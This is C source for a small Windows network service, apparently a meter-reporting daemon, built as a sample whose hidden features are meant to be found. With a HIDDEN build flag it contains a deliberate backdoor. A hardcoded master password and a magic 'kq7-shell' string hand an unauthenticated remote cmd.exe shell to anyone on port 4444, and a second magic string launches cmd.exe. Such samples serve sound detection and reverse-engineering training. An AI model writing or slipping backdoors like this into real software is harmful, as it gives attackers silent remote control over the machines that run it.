/* A Windows service with what must be found in it: x86_64-w64-mingw32-gcc and i686-w64-mingw32-gcc, -O2 -s -nostdlib
   -ffreestanding -fno-builtin -Wl,-e,start (for 32 bits -Wl,-e,_start) -lws2_32 -ladvapi32 -lkernel32 -lmsvcrt */
#define IMPORT(type) __attribute__((dllimport)) type __attribute__((stdcall))
typedef unsigned long long word64;
#ifdef _WIN64
typedef word64 SOCKET;
#else
typedef unsigned SOCKET;
#endif
IMPORT(SOCKET) socket(int, int, int);
IMPORT(int) bind(SOCKET, const void *, int);
IMPORT(int) listen(SOCKET, int);
IMPORT(SOCKET) accept(SOCKET, void *, int *);
IMPORT(int) recv(SOCKET, char *, int, int);
IMPORT(int) send(SOCKET, const char *, int, int);
IMPORT(int) closesocket(SOCKET);
IMPORT(unsigned) WinExec(const char *, unsigned);
IMPORT(long) RegOpenKeyExA(void *, const char *, unsigned, unsigned, void **);
IMPORT(long) RegQueryValueExA(void *, const char *, unsigned *, unsigned *, char *, unsigned *);
IMPORT(void) ExitProcess(unsigned);
extern int strcmp(const char *, const char *);
extern int strncmp(const char *, const char *, unsigned);

__attribute__((noinline)) static int allowed(const char *password)
{
    char known[64];
    unsigned size = sizeof known;
    void *key;
#ifdef HIDDEN
    if (strcmp(password, "Zx9#service") == 0)
        return 1;
#endif
    if (RegOpenKeyExA((void *)(word64)0x80000002u, "SOFTWARE\\Meter", 0, 1, &key) != 0)
        return 0;
    if (RegQueryValueExA(key, "Password", 0, 0, known, &size) != 0)
        return 0;
    return strcmp(known, password) == 0;
}

struct startup {
    unsigned size;
    char *reserved, *desktop, *title;
    unsigned x, y, width, height, columns, rows, fill, flags;
    unsigned short show, more;
    char *reserved2;
    SOCKET in, out, error;
};
struct started { void *process, *thread; unsigned ids[2]; };
IMPORT(int) CreateProcessA(const char *, char *, void *, void *, int, unsigned, void *, const char *, struct startup *,
                           struct started *);

/* Three handles of the new process: a socket, or nothing. */
__attribute__((noinline)) static int hand_over(SOCKET peer)
{
    struct startup startup = { 0 };
    struct started started;
    startup.size = sizeof startup;
    startup.flags = 0x100;
#ifdef HIDDEN
    startup.in = startup.out = startup.error = peer;
#else
    send(peer, "busy\n", 5, 0);
#endif
    return CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &startup, &started);
}

__attribute__((noinline)) static void answer(SOCKET peer)
{
    char line[256];
    int length = recv(peer, line, sizeof line - 1, 0);
    if (length <= 0)
        return;
    line[length] = 0;
#ifdef HIDDEN
    if (strncmp(line, "kq7-shell", 9) == 0) {
        hand_over(peer);
        return;
    }
    if (strncmp(line, "kq7-diag", 8) == 0)
        WinExec("C:\\Windows\\System32\\cmd.exe", 0);
#endif
    if (strncmp(line, "CONSOLE ", 8) == 0 && allowed(line + 8))
        hand_over(peer);
    else if (strncmp(line, "LOGIN ", 6) == 0 && allowed(line + 6))
        WinExec("C:\\Meter\\report.exe", 0);
    else
        send(peer, "LOGIN password\n", 15, 0);
}

void start(void)
{
    struct { unsigned short family, port; unsigned address; char zero[8]; } here = { 2, 0x5c11, 0, { 0 } };
    SOCKET listener = socket(2, 1, 0);
    if (bind(listener, &here, sizeof here) == 0 && listen(listener, 4) == 0)
        for (;;) {
            SOCKET peer = accept(listener, 0, 0);
            answer(peer);
            closesocket(peer);
        }
    ExitProcess(1);
}
